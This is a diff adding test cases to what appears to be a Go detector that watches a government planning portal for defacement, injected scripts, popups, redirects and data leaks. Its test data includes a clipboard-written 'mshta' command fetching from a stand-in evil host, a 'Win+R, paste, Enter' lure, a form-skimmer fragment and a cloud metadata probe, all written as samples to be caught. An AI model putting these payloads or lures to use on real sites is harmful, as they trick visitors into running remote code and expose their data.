@@ -37,6 +37,8 @@ var trials = []trial{
 	{"defacement.covered", Suspicious, func(t testing.TB) Look { return covered(t, night) }, func(t testing.TB) Look { return ministryLook(t, 4) }},
 	{"defacement.image", Alert, heroPainted("/img/hero.jpg", night), heroPainted("/img/hero-2.jpg", day)},
 	{"defacement.new_dialog", Suspicious, seen(func(v *View) { v.Dialogs = []string{"Welcome"} }), added("<p>Welcome</p>")},
+	{"defacement.dialog_loop", Alert, seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 21) }),
+		seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 20) })},
 	{"availability.own_page", Suspicious, wholePage("Back soon", "<h1>Under maintenance</h1><p>Our systems are being upgraded tonight, we will be back shortly and thank you for waiting.</p>"),
 		added("<p>The portal will be under maintenance on Sunday.</p>")},
 	{"injection.skimmer", Alert, added(inlineSkimmer), added(`<script>document.getElementById("search").addEventListener("submit",function(e){e.preventDefault();var q=document.querySelector("input[name=q]").value;
@@ -73,6 +75,28 @@ var trials = []trial{
 	{"injection.download", Alert, seen(func(v *View) {
 		v.Downloads = []Download{{"https://evil-file.top/update.exe", "update.exe", "application/octet-stream"}}
 	}), added("<a href=/form.pdf>Form</a>")},
+	{"injection.redirect_hop", Suspicious, seen(func(v *View) {
+		v.Hops = []Hop{{ministryURL, "script"}, {"https://sort.evil-tds.top/r?c=1", "http"}}
+	}), seen(func(v *View) {
+		v.Hops = []Hop{{"http://planning.gov.pk/", "http"}, {"https://planning.gov.pk/", "http"}, {"https://login.microsoftonline.com/x", "http"}}
+	})},
+	{"injection.popup", Suspicious, seen(func(v *View) { v.Popups = []string{"https://win.evil-ads.top/"} }),
+		seen(func(v *View) {
+			v.Popups = []string{ministryURL + "notice", "https://www.facebook.com/planning", "about:blank", ""}
+		})},
+	{"injection.popups", Suspicious, seen(func(v *View) { v.Popups = slices.Repeat([]string{"about:blank"}, 10) }),
+		seen(func(v *View) { v.Popups = slices.Repeat([]string{ministryURL}, 3) })},
+	{"injection.clipboard", Alert, seen(func(v *View) { v.Asks = []Ask{{"clipboard_write", "mshta https://evil-paste.top/x"}} }), ministryAt(4)},
+	{"injection.clipboard_read", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"clipboard_read", ""}} }), ministryAt(4)},
+	{"injection.permission", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"notification", ""}, {"camera", ""}} }), ministryAt(4)},
+	{"injection.reach_metadata", Alert, seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.254", 80, refusedPrivate, ""}} }),
+		seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.253", 80, refusedPrivate, ""}} })},
+	{"injection.reach_inside", Suspicious, seen(func(v *View) {
+		v.Refused = []Refusal{{"10.0.0.1", 80, refusedPrivate, ""}, {"localhost", 631, refusedPrivate, ""}}
+	}),
+		seen(func(v *View) { v.Refused = []Refusal{{"www.planning.gov.pk", 443, refusedPrivate, ""}} })},
+	{"injection.reach_port", Suspicious, seen(func(v *View) { v.Refused = []Refusal{{"irc.evil-chat.top", 6667, refusedPort, ""}} }),
+		seen(func(v *View) { v.Refused = []Refusal{{"stream.planning.gov.pk", 8000, refusedPort, ""}} })},
 	{"injection.lure", Alert, added("<p>Verify you are human: press Windows key + R, then press Ctrl + V and press Enter</p>"), added("<p>Press Ctrl + P to print the form.</p>")},
 	{"leak.cnic", Alert, added(identities(24)), added("<p>Write your number as 35202-1234567-1, epoch 1700000000000, order 99999-1234567-1.</p>")},
 	{"leak.card", Alert, added("<p>4111 1111 1111 1111, 5500-0000-0000-0004, 4012888888881881, 6011000990139424</p>"), added("<p>Tracking 4111111111111112, 5500000000000005 and 9999999999999995; call 0092519201234567</p>")},
